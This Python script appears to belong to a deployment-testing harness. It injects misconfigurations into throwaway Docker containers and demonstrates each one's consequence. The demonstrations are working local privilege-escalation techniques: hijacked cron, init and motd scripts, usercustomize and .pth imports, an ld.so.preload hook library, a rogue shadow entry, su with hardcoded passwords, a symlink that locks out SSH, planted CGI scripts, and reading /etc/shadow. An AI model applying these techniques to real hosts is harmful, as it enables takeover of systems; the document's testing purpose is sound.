"""Show each blind12 fault's consequence on fresh containers of the campaign's snapshot: inject the fault exactly
as the campaign does, then run its effect: a shell as root in the container (``runuser`` to act as another
account), or from the runner: ``RUNNERPW:`` a login with the deploy login's password (paramiko), ``DEPLOY:`` a
deploy of another build with the pipeline, ``ROLLBACK:`` a rollback with the pipeline, ``PARALLEL:`` N logins at
once (paramiko), each followed by an optional shell in the container.

    python blind12/effects11.py PLATFORM ID-PREFIX [ID-PREFIX ...]
"""
import os
import sys
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path

import paramiko

sys.path.insert(0, str(Path(__file__).parent))
from deploytests import pipeline
from deploytests.config import load_config
from deploytests.containers import Fleet
from deploytests.faults.catalogue import script
from deploytests.faults.run import Campaign
from deploytests.stacks import for_platform
from deploytests.suite.lab import APPS

from faults import ALLOWED, PLAIN
from members import MEMBERS

APP = APPS / "yourapplication"
camp = Campaign(APP, load_config(APP), faults=[], clean=0, progress=print, stack=for_platform(sys.argv[1]))
snap = {"tag": camp.snapshot()}
V = camp.values
H = "-H 'Host: localhost' http://127.0.0.1"
IP = "$(hostname -i | cut -d' ' -f1)"


def pth(tag: str) -> str:
    """The deploy login plants a .pth in its live release's venv that records who ran it."""
    return ("d=$(ls -d {root}/current/venv/lib/python*/site-packages); "
            f"printf 'import os; open(\"/tmp/{tag}-ran-as\", \"a\").write(str(os.getuid()) + \" \")\\n' > $d/zz-{tag}.pth; "
            f"chown {{login}} $d/zz-{tag}.pth; rm -f /tmp/{tag}-ran-as")


APPW = "runuser -u {app_user} -- "
D = "{root}/shared/data"
DEPW = "runuser -u {deploy_user} -- "


def marker(tag: str, cmd: str = "id") -> str:
    """A shell script body that records who ran it."""
    return f"#!/bin/sh\\n{cmd} > /tmp/{tag}-ran-as 2>&1\\n"


def app_writes(path: str, body: str, mode: str = "755") -> str:
    """The app user writes ``body`` to ``path`` (printf escapes) and makes it mode ``mode``."""
    return APPW + f"sh -c 'printf \"{body}\" > {path}; chmod {mode} {path}'; "


def su_pty(user: str, pw: str, cmd: str) -> str:
    """As the app user, ``su user -c cmd`` typing the password on a pty (su reads it from the terminal)."""
    return (APPW + "python3 -c \"import os, pty, time; pid, fd = pty.fork(); pid or os.execvp('su', ['su', '" + user
            + "', '-c', '" + cmd + "']); time.sleep(1); os.write(fd, b'" + pw + "' + bytes([10])); time.sleep(3); "
            "os.waitpid(pid, 0)\"; ")


RESTART = ("pkill -f '^/usr/bin/python3 /opt/metrics/exporter.py'; sleep 0.5; (cd / && setsid setpriv --reuid www-data "
           "--regid www-data --init-groups env HOME=/var/www /usr/bin/python3 /opt/metrics/exporter.py </dev/null >/dev/null "
           "2>&1 &); sleep 1.5; ")
PYMARK = "import os; open(\\\"/tmp/{t}-ran-as\\\", \\\"w\\\").write(\\\"uid=%%d\\\" %% os.getuid())\\n"
RESTART_APACHE = ("apache2ctl stop; i=0; while pgrep -x apache2 >/dev/null && [ $i -lt 100 ]; do sleep 0.05; "
                  "i=$((i+1)); done; apache2ctl start; sleep 2; ")
CGI = "#!/bin/sh\\necho Content-Type: text/plain\\necho\\nid\\n"
EFFECT = {
    "p01": "SHELL:" + app_writes(D + "/jobs/reindex.sh", marker("p01")) + "cd /var/spool/cron/atjobs; f=$(ls | grep '^a' | head -1); mv $f $(echo $f | cut -c1-6)00000000; atd -s; sleep 3; echo -n 'the at job (root spool) ran the app user script as: '; cat /tmp/p01-ran-as",
    "p02": "SHELL:" + "env -i PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin run-parts --lsbsysinit /etc/update-motd.d >/dev/null; echo -n 'pam_motd own command (run-parts of update-motd.d, as root; this image has UsePAM no) ran the app user motd.sh as: '; cat /tmp/p02-ran-as",
    "p04": "SHELL:" + APPW + "sh -c 'printf \"" + PYMARK.format(t="p04") + "\" > " + D + "/pylib/usercustomize.py'; python3 -c pass; echo -n 'root python3 imported the app user usercustomize as: '; cat /tmp/p04-ran-as",
    "p05": "SFTP:echo -n 'an sftp session of {login} ran the app user wrapper, whose sudo -n id said: '; cat /tmp/p05-ran-as",
    "p06": "LOGIN:true|echo -n 'an SSH command of {login} (as every deploy does) sourced the app user .env, whose sudo -n id said: '; cat /tmp/p06-ran-as",
    "p08": "LOGIN:true|echo -n 'an SSH command of {login} sourced the app user .env via ~/.bashrc, whose sudo -n id said: '; cat /tmp/p08-ran-as",
    "p17": "SHELL:" + APPW + "sh -c 'cp /tmp/hook.so " + D + "/apm/.new && mv " + D + "/apm/.new " + D + "/apm/libapm.so'; rm -f /tmp/p17-ran-as; /usr/bin/true; echo -n 'a root program loaded the app user library (ld.so.preload) as: '; cat /tmp/p17-ran-as",
    "p20": "SHELL:" + app_writes(D + "/warmup.sh", marker("p20")) + "/etc/init.d/app-warmup start; echo -n 'the init script (as at boot) ran the app user warmup.sh as: '; cat /tmp/p20-ran-as",
    "p21": "SHELL:" + app_writes("/opt/apptools/pager", marker("p21")) + "pager /etc/hostname </dev/null >/dev/null 2>&1; echo -n 'root pager ran the app user program as: '; cat /tmp/p21-ran-as",
    "p03": "SHELL:" + APPW + "sh -c 'printf \"id > /tmp/p03-ran-as\\n. /etc/apache2/envvars\\n\" > /tmp/p03.sh'; " + APPW + "env APACHE_ENVVARS=/tmp/p03.sh doas -n /usr/sbin/apache2ctl graceful; echo -n 'the app user doas apache2ctl sourced its own file as: '; cat /tmp/p03-ran-as",
    "p09": "SHELL:" + "openssl passwd -6 Pw-2026 > /tmp/h; chmod 644 /tmp/h; " + APPW + "sh -c 'echo ops9:x:$(id -u {login}):$(id -g {login})::/home/{login}:/bin/sh >> /var/lib/extrausers/passwd; printf \"ops9:%s:19000:0:99999:7:::\\n\" \"$(cat /tmp/h)\" >> /var/lib/extrausers/shadow'; echo -n 'the app user made an account: '; getent passwd ops9; " + su_pty("ops9", "Pw-2026", "sudo -n id > /tmp/p09-ran-as 2>&1") + "echo -n 'the app user su ops9 (its password, the admin uid) then sudo -n id: '; cat /tmp/p09-ran-as",
    "p14": "SHELL:" + "p=$(pgrep -u {app_user} | head -1); echo \"an app daemon (pid $p): $(grep Groups /proc/$p/status)\"; echo -n 'as the app user, the first bytes of /etc/shadow: '; " + APPW + "head -c 24 /etc/shadow; echo",
    "p18": "SHELL:" + su_pty("ops", "Ops-Shared-2026", "sudo -n id > /tmp/p18-ran-as") + "echo -n 'the app user su ops (the admin uid) then sudo -n id: '; cat /tmp/p18-ran-as",
    "p13": "SHELL:" + APPW + "sh -c 'rm -f /var/log/apache2/yourapplication-access.log; ln -s /etc/nologin /var/log/apache2/yourapplication-access.log'; rm -f /etc/nologin; apache2ctl graceful; sleep 2; curl -s -o /dev/null " + H + "/; echo 'the app user link made root Apache create: '; ls -l /etc/nologin; echo 'and sshd now refuses the deploy login (pam_nologin):'; head -c 200 /etc/nologin; echo",
    "p07": "PW:root:Emergency-2026:id",
    "p15": "PROXY:",
    "p19": "SHELL:" + f"curl -s -o /dev/null -H 'Host: localhost' -H 'Authorization: Bearer SECRET-API-TOKEN-42' -H 'Cookie: session=VICTIM-SESSION' http://{IP}/; sleep 1; " + "echo -n 'the access log (read by adm, log shippers) now holds: '; grep -o 'VICTIM-SESSION\" \"Bearer SECRET-API-TOKEN-42' /var/log/apache2/yourapplication-access.log | head -1",
    "p12": "SHELL:" + "python3 -c \"import socket, subprocess, time; s = socket.create_connection(('127.0.0.1', 80)); time.sleep(0.5); t = time.time(); r = subprocess.run(['curl', '-s', '-m', '8', '-o', '/dev/null', '-w', '%{{http_code}}', '-H', 'Host: localhost', 'http://127.0.0.1/health'], capture_output=True, text=True); print('with one idle connection open, GET /health ->', r.stdout or 'no answer', 'after %.1f s' % (time.time() - t))\"",
    "p10": "ROLLBACK:" + f"curl -s -o /dev/null {H}/; sleep 1; " + "echo -n 'after the rollback the daemons ran: '; cat /tmp/p10-loaded; echo -n 'while the kept .py has no such line: '; grep -c p10-loaded {prev_site}/{package}/__init__.py",
    "p11": "ROLLBACK:" + f"curl -s -o /dev/null -D - {H}/ | grep -i x-deploy-release | sed 's/^/after the rollback: /'",
    "p16": "ROLLBACK:" + f"curl -s -o /dev/null -D - {H}/ | grep -i x-deploy-release | sed 's/^/after the rollback: /'",
    "a01": "SHELL:" + "echo -n 'the app user (in adm) su root -c id, no password: '; " + APPW + "su root -c id </dev/null",
    "a02": "SHELL:" + APPW + "sh -c 'rm -f /var/log/apache2/yourapplication-access.log; ln -s /etc/nologin /var/log/apache2/yourapplication-access.log'; rm -f /etc/nologin; apache2ctl graceful; sleep 2; curl -s -o /dev/null " + H + "/; echo 'the app user (adm) link made root Apache create: '; ls -l /etc/nologin",
    "a03": "SHELL:" + app_writes("/var/www/status/x.cgi", CGI) + RESTART_APACHE + f"echo -n 'the public GET /x.cgi on the status site: '; curl -s -H 'Host: status.example.com' http://{IP}/x.cgi",
    "a04": "SHELL:" + app_writes("/usr/lib/cgi-bin/x", CGI) + RESTART_APACHE + f"echo -n 'the public GET /cgi-bin/x on the app site: '; curl -s -H 'Host: localhost' http://{IP}/cgi-bin/x",
    "a05": "SHELL:" + f"echo -n 'the public GET /metrics on the app site: '; curl -s -H 'Host: localhost' http://{IP}/metrics",
    "a06": "SHELL:" + APPW + "sh -c 'printf \"" + PYMARK.format(t="a06") + "\" > /var/lib/app-metrics/plugins/x.py'; " + RESTART + "echo -n 'the restarted exporter ran the app user plugin as: '; cat /tmp/a06-ran-as",
    "a07": "SHELL:" + APPW + "sh -c 'printf \"" + PYMARK.format(t="a07") + "\" > /var/www/.local/lib/python{python_version}/site-packages/usercustomize.py'; " + RESTART + "echo -n 'the restarted exporter imported the app user usercustomize as: '; cat /tmp/a07-ran-as",
    "a08": "SHELL:" + f"echo -n 'from the network, memcached at {IP}:11211 says: '; python3 -c \"import socket; s=socket.create_connection(('$(hostname -i | cut -d' ' -f1)', 11211)); s.sendall(b'version\\\\r\\\\n'); print(s.recv(100))\"",
    "a09": "SHELL:" + app_writes(D + "/bin/id", "#!/bin/sh\\n/usr/bin/id > /tmp/a09-ran-as\\nexec /usr/bin/id $*\\n") + APPW + "sudo -n /usr/sbin/apache2ctl graceful; echo -n 'the allowed sudo apache2ctl graceful ran the app user id as: '; cat /tmp/a09-ran-as",
    "a10": "SHELL:" + app_writes(D + "/sync.sh", marker("a10", "sudo -n id")) + DEPW + "sh -c 'cd " + D + " && sh ./sync.sh'; echo -n 'the cron job (as cron runs it, as {deploy_user}) ran the app user sync.sh; its sudo -n id: '; cat /tmp/a10-ran-as",
}
EFFECT.update({
    "m1": "LOGIN:true|echo -n 'an SSH command of {login} ran the app user notify-login via ~/.bashrc, whose sudo -n id said: '; cat /tmp/m1-ran-as",
    "m2": "SHELL:" + APPW + "sh -c 'echo shadow:x:42:{app_user} >> /var/lib/extrausers/group'; echo -n 'as the app user (initgroups), the first bytes of /etc/shadow: '; " + APPW + "head -c 24 /etc/shadow; echo",
    "m3": "SHELL:" + "runuser -u www-data -- python3 -c \"import os, pty, time; pid, fd = pty.fork(); pid or os.execvp('su', ['su', 'support', '-c', 'id > /tmp/m3-ran-as; head -c 30 {config} >> /tmp/m3-ran-as']); time.sleep(1); os.write(fd, b'Support-2026' + bytes([10])); time.sleep(3); os.waitpid(pid, 0)\"; echo -n 'www-data su support (the app uid): '; cat /tmp/m3-ran-as",
    "m4": "SHELL:" + APPW + "sh -c 'printf \"" + PYMARK.format(t="m4") + "\" > /var/www/.local/lib/python{python_version}/site-packages/usercustomize.py'; " + RESTART + "echo -n 'the restarted exporter imported the app user usercustomize as: '; cat /tmp/m4-ran-as",
    "m5": "SHELL:" + app_writes(D + "/rotate.sh", marker("m5")) + "sh -c \"$(sed -n 's/^0 4 [*] [*] [*] root //p' /etc/cron.d/app-sync)\"; echo -n 'the root job (as cron runs it) ran the app user rotate.sh as: '; cat /tmp/m5-ran-as",
})
PRE = {
    "m1": app_writes(D + "/bin/notify-login", marker("m1", "sudo -n id")),
    "p02": app_writes(D + "/motd.sh", marker("p02")),
    "p05": APPW + "sh -c 'printf \"#!/bin/sh\\nsudo -n id > /tmp/p05-ran-as 2>&1\\nexec /usr/lib/openssh/sftp-server $*\\n\" > /opt/sftp-audit/sftp-server'",
    "p06": APPW + "sh -c 'echo \"sudo -n id > /tmp/p06-ran-as 2>&1\" > " + D + "/.env'",
    "p08": APPW + "sh -c 'echo \"sudo -n id > /tmp/p08-ran-as 2>&1\" > " + D + "/.env'",
}
FAULTS = {f.id.split("-")[0]: f for f in PLAIN + ALLOWED + MEMBERS}
HOOK_C = ("#include <stdio.h>\n#include <unistd.h>\n__attribute__((constructor)) static void hook(void) {\n"
          "    FILE *f = fopen(\"/tmp/p17-ran-as\", \"w\");\n    if (f) { fprintf(f, \"uid=%d\\n\", (int)getuid()); fclose(f); }\n}\n")


def shell(container, cmd):
    res = container.exec_run(["sh", "-c", cmd.format(**V)], user="root")
    return f"rc={res.exit_code}:\n{res.output.decode(errors='replace').strip()[-1500:]}"


def login(server, **kw):
    c = paramiko.SSHClient()
    c.set_missing_host_key_policy(paramiko.AutoAddPolicy())  # a throwaway container of our own, on 127.0.0.1
    c.connect(server.host, server.port, username=server.user, allow_agent=False, look_for_keys=False, timeout=15,
              banner_timeout=15, auth_timeout=15, **kw)
    return c


def put(container, path, data: bytes, mode=0o755):
    import io
    import tarfile
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w") as t:
        info = tarfile.TarInfo(Path(path).name)
        info.size, info.mode = len(data), mode
        t.addfile(info, io.BytesIO(data))
    container.put_archive(str(Path(path).parent), buf.getvalue())


def hook_so() -> bytes:
    import subprocess
    import tempfile
    d = Path(tempfile.mkdtemp())
    (d / "hook.c").write_text(HOOK_C)
    subprocess.run(["gcc", "-shared", "-fPIC", "-o", str(d / "hook.so"), str(d / "hook.c")], check=True)
    return (d / "hook.so").read_bytes()


def one(fid, server, container):
    f = FAULTS[fid]
    out = [f"##### {f.id}: {f.what}"]
    res = container.exec_run(script(f, V), user="root")
    out.append(f"inject rc={res.exit_code} {res.output.decode(errors='replace').strip()[-300:]}")
    if fid == "p17":
        put(container, "/tmp/hook.so", hook_so())
    if fid in PRE:
        out.append("before " + shell(container, PRE[fid]))
    kind, _, rest = EFFECT[fid].partition(":")
    key = str(server.key_filename)
    try:
        if kind == "SHELL":
            out.append("effect " + shell(container, rest))
        elif kind == "LOGIN":
            cmd, _, after = rest.partition("|")
            c = login(server, key_filename=key)
            _, o, e = c.exec_command(cmd, timeout=20)
            out.append(f"runner: ssh {server.user}@ {cmd!r}: rc={o.channel.recv_exit_status()}")
            c.close()
            out.append("then " + shell(container, after))
        elif kind == "LOGINPTY":
            import time
            _, _, after = rest.partition("|")
            c = login(server, key_filename=key)
            ch = c.invoke_shell()
            time.sleep(2)
            ch.send(b"exit\n")
            time.sleep(1)
            out.append(f"runner: an interactive ssh login of {server.user} (a pty), then exit")
            c.close()
            out.append("then " + shell(container, after))
        elif kind == "SFTP":
            c = login(server, key_filename=key)
            sf = c.open_sftp()
            out.append(f"runner: sftp as {server.user}: listdir . -> {len(sf.listdir('.'))} entries")
            sf.close()
            c.close()
            out.append("then " + shell(container, rest))
        elif kind == "PW":
            user, pw, cmd = rest.split(":", 2)
            c = paramiko.SSHClient()
            c.set_missing_host_key_policy(paramiko.AutoAddPolicy())  # our own throwaway container on 127.0.0.1
            c.connect(server.host, server.port, username=user, password=pw, allow_agent=False, look_for_keys=False,
                      timeout=15)
            _, o, e = c.exec_command(cmd, timeout=20)
            out.append(f"runner (a non-loopback source to sshd: the Docker gateway): password login as {user}: "
                       f"{o.read().decode().strip()} {e.read().decode().strip()}")
            c.close()
        elif kind == "PROXY":
            import urllib.request
            direct = urllib.request.Request(server.base_url + "/server-status?auto")
            try:
                urllib.request.urlopen(direct, timeout=10)
                out.append("runner GET /server-status directly: 200")
            except Exception as exc:  # noqa: BLE001
                out.append(f"runner GET /server-status directly: {exc}")
            op = urllib.request.build_opener(urllib.request.ProxyHandler({"http": server.base_url}))
            body = op.open("http://127.0.0.1/server-status?auto", timeout=10).read().decode(errors="replace")
            out.append("runner, the server as its proxy, GET http://127.0.0.1/server-status?auto (loopback only): "
                       + " | ".join(body.splitlines()[:4]))
        elif kind in ("DEPLOY", "ROLLBACK"):
            try:
                if kind == "DEPLOY":
                    r = pipeline.deploy(server.connection(), camp.cfg, camp.variant(7))
                    out.append(f"deploy of another build: ok, live {r.release_id}")
                else:
                    r = pipeline.rollback(server.connection(), camp.cfg)
                    out.append(f"rollback: ok {r}")
            except Exception as exc:  # noqa: BLE001 - the consequence
                out.append(f"{kind.lower()} FAILED: {type(exc).__name__}: {str(exc)[:700]}")
            if rest:
                out.append("then " + shell(container, rest))
    except Exception as exc:  # noqa: BLE001
        out.append(f"effect error: {type(exc).__name__}: {exc}")
    return "\n".join(out)


fleet_key: dict = {}
ids = [i for a in sys.argv[2:] for i in FAULTS if i.startswith(a)]
try:
    size = int(os.environ.get('FX_BATCH', '4'))
    for n in range(0, len(ids), size):
        chunk = ids[n:n + size]
        with Fleet(count=len(chunk), name_prefix="blind12fx", image_tag=snap["tag"], progress=lambda m: None) as fleet:
            fleet_key["path"] = fleet.key.path
            with ThreadPoolExecutor(max_workers=4) as pool:
                for text in pool.map(one, chunk, fleet.servers, fleet.containers):
                    print(text, flush=True)
finally:
    camp.remove_image()
